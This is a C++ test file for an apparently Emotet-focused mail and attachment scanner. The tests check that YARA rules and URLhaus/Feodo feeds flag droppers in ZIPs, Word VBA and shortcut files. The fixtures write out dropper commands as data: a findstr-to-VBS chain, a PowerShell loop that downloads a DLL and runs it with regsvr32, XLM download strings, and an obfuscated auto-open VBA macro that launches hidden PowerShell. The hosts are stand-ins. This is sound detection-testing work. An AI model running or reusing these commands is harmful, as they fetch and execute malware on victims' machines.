// YARA and URL intelligence through the whole engine: findings at the right
// path with the rule's verdict, reload picking up new rules and refusing a
// broken strict set, URL lists matching text bodies, and no Emotet rule
// hit anywhere in the shared corpus.
#include <gtest/gtest.h>
#include <unistd.h>
#include <zip.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <sstream>

#include "emogate/scanner.h"
#include "unit/test_files.h"
#include "unit/emotet_fixtures.h"
#include "unit/findings.h"
#include "unit/ovba_builder.h"

using namespace emogate;
namespace fs = std::filesystem;
using namespace emogate::test;

namespace {



// A one-member ZIP; with a password, encrypted with traditional PKWARE.
std::string make_zip(const TempDir& d, const std::string& member, const std::string& bytes,
                     const char* password = nullptr) {
  std::string path = (d.path / "out.zip").string();
  int err = 0;
  zip_t* z = zip_open(path.c_str(), ZIP_CREATE | ZIP_TRUNCATE, &err);
  zip_source_t* src = zip_source_buffer(z, bytes.data(), bytes.size(), 0);
  zip_int64_t idx = zip_file_add(z, member.c_str(), src, ZIP_FL_ENC_UTF_8);
  if (password) zip_file_set_encryption(z, static_cast<zip_uint64_t>(idx), ZIP_EM_TRAD_PKWARE, password);
  zip_close(z);
  return slurp(path);
}

Config shipped_rules_config() {
  Config c;
  c.rules.paths = {std::string(EMOGATE_SOURCE_DIR) + "/rules"};
  c.rules.strict = true;
  return c;
}

TEST(YaraEngine, LnkDropperInsideZipIsFlaggedByShippedRules) {
  TempDir d;
  auto lnk = lnk_with_arguments(
      "/v:on /c findstr \"glKmfOKnQLYKnNs.*\" \"Form 04.25.2022, US.lnk\" > \"%tmp%\\YEeWXf.vbs\" & \"%tmp%\\YEeWXf.vbs\"");
  Scanner s(shipped_rules_config());
  EXPECT_TRUE(s.warnings().empty());
  Report r = s.scan_file(make_zip(d, "Form 04.25.2022, US.lnk", lnk), "Form.zip");
  const Finding* f = find_finding(r, FindingType::yara, {.detail = "Emotet_LNK_Findstr_Appended_Script_2022"});
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->path, "Form.zip/Form 04.25.2022, US.lnk");
  EXPECT_EQ(f->verdict, Verdict::malicious);
  EXPECT_NE(f->detail.find("emotet_lnk_2022.yar"), std::string::npos) << f->detail;
  EXPECT_NE(f->detail.find("tags=emotet,lnk"), std::string::npos) << f->detail;
  EXPECT_EQ(r.verdict, Verdict::malicious);
}

TEST(YaraEngine, XlmDropperWorkbookInsideZipIsFlagged) {
  // The 2022 Excel 4.0 dropper shape; once the encrypted-ZIP extractor
  // hands over the decrypted member the same rule applies to it.
  TempDir d;
  auto xls = biff8_workbook(2, 1, {"urlmon", "URLDownloadToFileA", "http://a.example/x/",
                                             "..\\oxnv1.ooccxx", "regsvr32.exe -s ..\\oxnv1.ooccxx"});
  Scanner s(shipped_rules_config());
  Report r = s.scan_file(make_zip(d, "INV 2022-03.xls", xls), "INV.zip");
  const Finding* f = find_finding(r, FindingType::yara, {.detail = "Emotet_XLS_VeryHidden_Macrosheet_Downloader_2022"});
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->path, "INV.zip/INV 2022-03.xls");
  EXPECT_EQ(r.verdict, Verdict::malicious);
}

TEST(YaraEngine, XlmDropperInsideEncryptedZipIsFlagged) {
  // The campaign's delivery: password "infected"-style ZIP, password in the
  // body. Needs the encrypted-archive extractor; skipped where it is absent.
  TempDir d;
  auto xls = biff8_workbook(2, 1, {"urlmon", "URLDownloadToFileA", "http://a.example/x/",
                                             "C:\\Windows\\SysWow64\\rundll32.exe ..\\enu.ocx,DllRegisterServer"});
  d.write("local/enc.yar", "rule From_Encrypted_Member { condition: from_encrypted and type == \"ole2\" }\n");
  Config c = shipped_rules_config();
  c.rules.paths.push_back((d.path / "local").string());
  Scanner s(c);
  Report r = s.scan_file(make_zip(d, "INV-2022.xls", xls, "infected"), "INV.zip");
  if (!find_finding(r, FindingType::archive_decrypted))
    GTEST_SKIP() << "this build does not decrypt ZIP members yet";
  const Finding* f = find_finding(r, FindingType::yara, {.detail = "Emotet_XLS_VeryHidden_Macrosheet_Downloader_2022"});
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->verdict, Verdict::malicious);
  EXPECT_NE(find_finding(r, FindingType::yara, {.detail = "From_Encrypted_Member"}), nullptr);
  EXPECT_EQ(r.verdict, Verdict::malicious);
}

TEST(YaraEngine, ZippedPaddedDocumentIsFlagged) {
  // 2023 shape: a small Word document padded with zeros, zipped (the ZIP is
  // small, the document huge). The ratio limit cuts it short; the padding
  // rule still sees zeros beyond what the document's FAT addresses.
  TempDir d;
  std::string doc = cfb_one_stream("WordDocument", std::string(9000, 'w'));
  doc.resize(64u << 20, '\0');
  std::string zip = make_zip(d, "Invoice.doc", doc);
  doc.clear();
  Scanner s(shipped_rules_config());
  Report r = s.scan_file(zip, "Invoice.zip");
  const Finding* f = find_finding(r, FindingType::yara, {.detail = "Emotet_Padded_OLE2_Document_2023"});
  ASSERT_NE(f, nullptr) << findings_summary(r);
  EXPECT_EQ(f->path, "Invoice.zip/Invoice.doc");
  EXPECT_EQ(f->verdict, Verdict::suspicious);
}

TEST(YaraEngine, ReloadPicksUpNewRulesAndKeepsOldSetOnFailure) {
  TempDir d;
  d.write("rules/a.yar", "rule Old_Rule { strings: $a = \"old-marker\" condition: $a }\n");
  Config c;
  c.rules.paths = {(d.path / "rules").string()};
  Scanner s(c);
  EXPECT_EQ(find_finding(s.scan_file("new-marker", "x.bin"), FindingType::yara, {.detail = "New_Rule"}), nullptr);

  d.write("rules/b.yar",
          "rule New_Rule { meta: verdict = \"suspicious\" strings: $a = \"new-marker\" condition: $a }\n");
  s.reload(c);
  const Finding* f = nullptr;
  Report r = s.scan_file("new-marker", "x.bin");
  f = find_finding(r, FindingType::yara, {.detail = "New_Rule"});
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->verdict, Verdict::suspicious);

  // A broken file: strict reload throws and the running set stays.
  std::string bad = d.write("rules/c.yar", "rule Broken {\n  condition: nope\n}\n");
  c.rules.strict = true;
  try {
    s.reload(c);
    FAIL() << "strict reload with a broken file must throw";
  } catch (const std::exception& e) {
    EXPECT_NE(std::string(e.what()).find(bad + ":2: "), std::string::npos) << e.what();
  }
  EXPECT_NE(find_finding(s.scan_file("new-marker", "x.bin"), FindingType::yara, {.detail = "New_Rule"}), nullptr);

  // Non-strict: the broken file is skipped and named in the warnings.
  c.rules.strict = false;
  s.reload(c);
  ASSERT_EQ(s.warnings().size(), 1u);
  EXPECT_NE(s.warnings()[0].find(bad + ":2: "), std::string::npos) << s.warnings()[0];
  EXPECT_NE(find_finding(s.scan_file("old-marker", "x.bin"), FindingType::yara, {.detail = "Old_Rule"}), nullptr);
}

TEST(YaraEngine, RuleSeesExternalVariablesOfZipMembers) {
  TempDir d;
  d.write("rules/ctx.yar",
          "rule Member_Context { condition: parent_type == \"zip\" and depth == 1 and extension == \".txt\""
          " and filename == \"note.txt\" and path == \"m.zip/note.txt\" and not from_encrypted }\n");
  Config c;
  c.rules.paths = {(d.path / "rules").string()};
  Scanner s(c);
  Report r = s.scan_file(make_zip(d, "note.txt", "hello"), "m.zip");
  const Finding* f = find_finding(r, FindingType::yara, {.detail = "Member_Context"});
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->path, "m.zip/note.txt");
}

TEST(YaraEngine, MessageHeadersAndPartsAreEachScannedOnce) {
  TempDir d;
  d.write("rules/m.yar",
          "rule Header_Rule { strings: $h = \"X-Mailer: Evil-Mailer\" condition: $h }\n"
          "rule Body_Rule { strings: $b = \"body-marker-77\" condition: $b }\n");
  Config c;
  c.rules.paths = {(d.path / "rules").string()};
  Scanner s(c);
  Report r = s.scan_message(
      "From: a@example.org\r\nX-Mailer: Evil-Mailer\r\nContent-Type: text/plain\r\n\r\nbody-marker-77\r\n");
  std::vector<std::string> where;
  for (const auto& f : r.findings)
    if (f.type == FindingType::yara) where.push_back(f.detail.substr(0, f.detail.find(' ')) + "@" + f.path);
  EXPECT_EQ(where, (std::vector<std::string>{"Header_Rule@(message)", "Body_Rule@body-1.txt"}));
}

const char* kUrlhaus =
    "# id,dateadded,url,url_status,last_online,threat,tags,urlhaus_link,reporter\n"
    "\"2100001\",\"2022-03-15 09:58:02\",\"http://shop.example.com/wp-admin/Zx1/\",\"online\",\"\","
    "\"malware_download\",\"emotet,epoch4,doc\",\"https://urlhaus.abuse.ch/url/2100001/\",\"x\"\n";
const char* kFeodo = "# Feodo Tracker\n51.75.33.127\n";

std::string message(const std::string& body) {
  return "From: a@example.org\r\nTo: b@example.net\r\nSubject: invoice\r\n"
         "Content-Type: text/plain; charset=utf-8\r\n\r\n" + body + "\r\n";
}

TEST(YaraEngine, UrlhausUrlSplitInVbaStyleStringIsFlagged) {
  TempDir d;
  Config c;
  c.rules.paths = {};
  c.intel.urlhaus_path = d.write("urlhaus.csv", kUrlhaus);
  c.intel.feodo_path = d.write("feodo.txt", kFeodo);
  Scanner s(c);
  Report r = s.scan_message(message(
      "Set x = CreateObject(\"MSXML2.XMLHTTP\")\r\nx.Open \"GET\", \"htt\" & \"p://shop.exa\" + \"mple.com/wp-admin/Zx1/\", False\r\n"
      "c2 51.75.33.127 and http://benign.example/ and http://shop.example.com/other/"));
  const Finding* f = find_finding(r, FindingType::url_blocklisted, {.detail = "http://shop.example.com/wp-admin/Zx1/ listed by URLhaus"});
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->verdict, Verdict::malicious);
  EXPECT_NE(f->detail.find("emotet,epoch4,doc"), std::string::npos);
  EXPECT_NE(f->detail.find("2022-03-15"), std::string::npos);
  const Finding* host = find_finding(r, FindingType::url_blocklisted, {.detail = "http://shop.example.com/other/: host listed"});
  ASSERT_NE(host, nullptr);
  EXPECT_EQ(host->verdict, Verdict::suspicious);
  EXPECT_NE(find_finding(r, FindingType::url_blocklisted, {.detail = "51.75.33.127 listed by Feodo Tracker"}), nullptr);
  EXPECT_EQ(find_finding(r, FindingType::url_blocklisted, {.detail = "benign.example"}), nullptr);
  for (const char* u : {"http://shop.example.com/wp-admin/Zx1/", "http://benign.example/",
                        "http://shop.example.com/other/"})
    EXPECT_NE(std::find(r.urls.begin(), r.urls.end(), u), r.urls.end()) << u;
}

TEST(YaraEngine, UrlhausUrlInShortcutArgumentsIsFlagged) {
  // Shortcut strings are UTF-16LE; the URL is found and matched all the same.
  TempDir d;
  Config c;
  c.rules.paths = {std::string(EMOGATE_SOURCE_DIR) + "/rules"};
  c.intel.urlhaus_path = d.write("urlhaus.csv", kUrlhaus);
  Scanner s(c);
  auto lnk = lnk_with_arguments(
      "-w hidden -c \"foreach($u in 'http://shop.example.com/wp-admin/Zx1/','https://b.example/y/')"
      "{try{iwr $u -OutFile $env:TEMP\\q.dll;regsvr32 /s $env:TEMP\\q.dll;break}catch{}}\"",
      {}, "..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
  Report r = s.scan_file(make_zip(d, "Form.lnk", lnk), "Form.zip");
  const Finding* f = find_finding(r, FindingType::url_blocklisted, {.detail = "http://shop.example.com/wp-admin/Zx1/ listed by URLhaus"});
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->path, "Form.zip/Form.lnk");
  EXPECT_NE(find_finding(r, FindingType::yara, {.detail = "Emotet_LNK_PowerShell_Downloader_2022"}), nullptr);
  EXPECT_NE(std::find(r.urls.begin(), r.urls.end(), "https://b.example/y/"), r.urls.end());
}

// A Word 97-2003 document whose VBA project holds `source` in one module.
std::string word_doc_with_vba(const std::string& source) {
  emogate::test::VbaProjectBuilder p;
  p.add("ThisDocument", source);
  emogate::test::Ole2Builder b(3);
  b.add("WordDocument", std::string(6000, 'w')).add("1Table", std::string(800, 't'));
  p.add_to(b, "Macros/VBA");
  return b.build();
}

TEST(YaraEngine, WordVbaDropperFlaggedThroughDecompressedSource) {
  // The 2019-2020 shape: auto-run macro, WMI process creation with a hidden
  // window, download URL split into VBA string pieces. The raw document
  // holds the source compressed; the rules and the URL list match the
  // vba_source object emogate derives.
  TempDir d;
  Config c = shipped_rules_config();
  c.intel.urlhaus_path = d.write("urlhaus.csv", kUrlhaus);
  Scanner s(c);
  Report r = s.scan_file(word_doc_with_vba(
                             "Sub Document_open()\r\n"
                             "  u = \"ht\" & \"tp://shop.exa\" & \"mple.com/wp-admin/Zx1/\"\r\n"
                             "  Set p = GetObject(Replace(\"wiXXnmgmXXts:wiXXn32_XXprocess\", \"XX\", \"\"))\r\n"
                             "  Set st = GetObject(Replace(\"wiXXnmgmts:WiXXn32_ProcessXXStartup\", \"XX\", \"\"))\r\n"
                             "  st.ShowWindow = 0\r\n"
                             "  p.Create Replace(\"poXXwershell -w hidden -c iwr \", \"XX\", \"\") & u, Null, st, pid\r\n"
                             "End Sub\r\n"),
                         "invoice.doc");
  const Finding* y = find_finding(r, FindingType::yara, {.detail = "Emotet_VBA_WMI_Hidden_Process_2019"});
  ASSERT_NE(y, nullptr) << findings_summary(r);
  EXPECT_EQ(y->verdict, Verdict::malicious);
  const Finding* u = find_finding(r, FindingType::url_blocklisted, {.detail = "http://shop.example.com/wp-admin/Zx1/ listed by URLhaus"});
  ASSERT_NE(u, nullptr) << findings_summary(r);
  EXPECT_EQ(u->path, y->path);  // both on the decompressed module source
}

TEST(YaraEngine, MissingIntelFileFailsLoading) {
  Config c;
  c.rules.paths = {};
  c.intel.urlhaus_path = "/nonexistent/urlhaus.csv";
  EXPECT_THROW(Scanner s(c), std::runtime_error);
}

TEST(YaraEngine, NoEmotetRuleHitsInSharedCorpus) {
  const char* env = std::getenv("EMOGATE_SHARED");
  fs::path corpus = fs::path(env ? env : std::string(EMOGATE_SOURCE_DIR) + "/../shared") / "corpus";
  if (!fs::exists(corpus)) GTEST_SKIP() << "no shared corpus at " << corpus;
  Scanner s(shipped_rules_config());
  std::size_t n = 0;
  for (const auto& e : fs::recursive_directory_iterator(corpus)) {
    if (!e.is_regular_file() || e.path().filename() == "MANIFEST.tsv") continue;
    std::string bytes = slurp(e.path());
    bool eml = e.path().extension() == ".eml";
    Report r = eml ? s.scan_message(bytes) : s.scan_file(bytes, e.path().filename().string());
    for (const auto& f : r.findings)
      EXPECT_NE(f.type, FindingType::yara) << e.path() << ": " << f.path << ": " << f.detail;
    ++n;
  }
  EXPECT_GT(n, 100u);
}

}  // namespace
